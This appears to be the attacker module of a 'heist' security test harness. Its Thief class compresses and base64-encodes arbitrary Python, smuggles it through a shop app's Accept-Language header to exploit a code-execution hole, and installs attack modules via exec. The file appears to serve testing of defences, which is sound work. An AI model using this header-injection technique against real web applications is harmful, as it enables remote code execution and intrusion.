"""Trust: hostile.

The thief, outside: he is a customer whose browser's language is a program. He sends his kit through the hole
once, and then one line per attempt.
"""

from __future__ import annotations

import base64
import html
import http.client
import json
import zlib
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Final

from heist import Failure
from heist.attempts.kit import Known
from heist.customers import Shop

ATTEMPTS: Final = Path(__file__).with_name("attempts")
FILES: Final = ("kit", "files", "memory", "world", "kernel", "calls")
INSTALL: Final = """
import sys, types
for name in ("heist", "heist.attempts"):
    sys.modules[name] = types.ModuleType(name)
    sys.modules[name].__path__ = []
module = types.ModuleType("heist.attempts.{name}")
sys.modules[module.__name__] = module
exec(compile({source!r}, "<{name}>", "exec"), module.__dict__)
result = "installed"
"""


@dataclass(frozen=True)
class Outcome:
    """How one attempt ended."""

    outcome: str
    code: str
    detail: str

    @property
    def through(self) -> bool:
        """Whether the thief got what he wanted."""
        return self.outcome == "got through"


class Thief:
    """Runs programs in the app's process, by way of the price of a teapot."""

    def __init__(self, port: int) -> None:
        self._shop = Shop(port)
        self.heard: list[str] = []

    def arrive(self) -> None:
        """Send the kit through the hole."""
        for name in FILES:
            source = (ATTEMPTS / f"{name}.py").read_text()
            said = self.execute(INSTALL.format(name=name, source=source))
            if said != "installed":
                raise Failure(f"the hole answered {said[:200]!r}")

    def attempt(self, name: str, known: Known) -> Outcome:
        """Carry out one attempt inside the app."""
        facts = json.dumps(asdict(known))
        said = self.execute(
            "import json\nfrom heist.attempts import kit\n"
            f"result = kit.carry_out({name!r}, json.loads({facts!r}))\n"
        )
        try:
            return Outcome(**json.loads(said))
        except ValueError:
            return Outcome("stopped", "no answer", said[:200])

    def execute(self, program: str) -> str:
        """Have the app run a program, and hear its result."""
        tag = base64.urlsafe_b64encode(zlib.compress(program.encode(), 9)).decode()
        try:
            _, page = self._shop.request("GET", "/item/teapot", Accept_Language=f"x-{tag}")
        except (OSError, http.client.HTTPException) as error:
            return repr(error)
        said = html.unescape(page.partition("<p>")[2].rpartition("</p>")[0])
        self.heard.append(said)
        return said

    def leave(self) -> None:
        """Close the connection."""
        self._shop.close()
